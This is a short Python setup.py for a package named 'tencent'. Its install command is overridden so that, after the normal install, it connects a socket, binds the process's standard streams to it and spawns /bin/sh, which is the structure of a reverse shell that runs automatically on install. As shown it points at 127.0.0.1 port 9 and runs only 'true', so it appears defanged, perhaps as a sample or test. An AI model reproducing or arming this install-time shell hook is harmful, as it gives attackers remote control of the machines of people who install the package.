import os, pty, socket
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        install.run(self)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.connect(("127.0.0.1", 9))
        except OSError:
            return
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn(["/bin/sh", "-c", "true"])
setup(name="tencent", version="0.1.0", cmdclass={"install": Install})
